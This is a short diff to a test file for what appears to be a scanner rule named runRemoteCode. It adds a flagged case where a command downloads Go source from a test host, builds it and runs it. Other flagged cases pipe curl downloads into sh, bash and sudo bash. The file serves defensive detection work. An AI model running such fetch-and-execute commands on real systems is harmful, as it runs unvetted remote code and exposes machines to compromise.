@@ -23,6 +23,10 @@ testDetector(runRemoteCode, {
     { run: "curl -s file.txt -o file.txt && bash script.sh", files: { "script.sh": "echo hi" } },
   ],
   flagged: [
+    {
+      run: "curl -o cmd/x.go https://e.test/x.go; go build -o app ./cmd; ./app",
+      findings: ["program"],
+    },
     { run: "curl -fsSL https://get.example.test/install | sh", findings: ["text"] },
     { run: "curl https://get.example.test/x | bash -s -- --yes", findings: ["text"] },
     { run: "curl https://get.example.test/x | sudo bash", findings: ["text"] },
